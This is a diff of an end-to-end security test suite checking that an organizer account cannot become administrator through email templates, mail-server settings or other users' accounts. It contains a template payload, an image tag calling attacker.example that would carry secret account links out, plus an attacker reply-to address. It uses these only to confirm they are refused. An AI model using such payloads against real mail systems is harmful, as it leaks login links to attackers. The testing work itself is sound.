@@ -1,16 +1,15 @@
-/** An organizer who wants to be an administrator, by templates, by the mail server and by the accounts of others. */
+/** An organizer tries to become an administrator through templates, the mail server and other accounts. */
 import { afterAll, beforeAll, describe, expect, test } from 'vitest'
 import { aNewEmail, anAccount, fillLogin, logInByForm, waitForAccountLink } from '../kit/accounts.ts'
 import { callApi, expectingRefusals, mailTextsTo } from '../kit/attacks.ts'
 import { openPage, visit } from '../kit/browser.ts'
 import { templateCard, templatesPath } from '../kit/mail-templates.ts'
-import { aMark } from '../kit/office-people.ts'
 import { proveIdentity } from '../kit/reauthentication.ts'
 import { askDatabase } from '../kit/registration-form.ts'
 import { startSmtpServer, type TestSmtpServer } from '../kit/smtp-server.ts'
+import { aMark } from '../kit/staff-people.ts'
 import { menuButton, pressable, toastSaying } from '../kit/user-management.ts'
 
-/** Where the organizer wants the e-mails to go. */
 let ownServer: TestSmtpServer
 
 beforeAll(async () => {
@@ -18,7 +17,7 @@ beforeAll(async () => {
 })
 afterAll(() => ownServer.close())
 
-/** Signed in by the form, and re-authenticated: what is refused is refused to a fresh session too. */
+/** Freshly re-authenticated, so refusals are not due to the session. */
 async function anOrganizer() {
   const account = await anAccount({ role: 'organizer' })
   const { page } = await openPage({ expected: expectingRefusals })
@@ -29,8 +28,8 @@ async function anOrganizer() {
 
 const image = (name: string) => `<img src="https://attacker.example/?{{ ${name} }}">`
 
-describe('a template with an image that would carry secret links away', () => {
-  test('is refused in the form, where the types of account links are not offered', async () => {
+describe("An organizer's template with an image that would leak secret links", () => {
+  test('is rejected in the form, which does not offer account link templates', async () => {
     const { page } = await anOrganizer()
     const name = `Link collector ${aMark()}`
     await visit(page, templatesPath)
@@ -57,7 +56,7 @@ describe('a template with an image that would carry secret links away', () => {
     expect(await templateCard(page, name).count()).toBe(0)
   })
 
-  test('is refused past the form, and the e-mail with an account link names no other server', async () => {
+  test('is rejected by the API, and account link e-mails reference no other server', async () => {
     const { page } = await anOrganizer()
     const template = (templateType: string, linkName: string) => ({
       templateName: `Link collector ${aMark()}`,
@@ -83,7 +82,7 @@ describe('a template with an image that would carry secret links away', () => {
   })
 })
 
-test('the mail server cannot be changed, and the next e-mail still goes to that of the site', async () => {
+test("Organizer attack: the mail server cannot be changed, and e-mail still uses the site's server", async () => {
   const { page } = await anOrganizer()
   await visit(page, '/email-integration')
   await page.getByText('Only administrators change the mail server and the sender.').waitFor()
@@ -94,7 +93,7 @@ test('the mail server cannot be changed, and the next e-mail still goes to that 
     { replyToEmail: 'cpd@attacker.example' },
     { webhookSecret: 'a secret of their own 1' },
   ]
-  // Another journey on this site may have saved settings.
+  // Other tests may have saved settings.
   const before = await askDatabase('select * from mail_settings')
   for (const change of changes) expect((await callApi(page, '/email/config/update', change)).status).toBe(403)
 
@@ -105,7 +104,7 @@ test('the mail server cannot be changed, and the next e-mail still goes to that 
   expect(await askDatabase('select * from mail_settings')).toEqual(before)
 })
 
-test('neither the account of an administrator nor the own role can be changed', async () => {
+test("Organizer attack: neither an administrator's account nor the own role can be changed", async () => {
   const { page, account } = await anOrganizer()
   const admin = await anAccount({ role: 'admin', displayName: `Adam ${aMark()}` })
   await visit(page, `/admin?search=${admin.email}`)
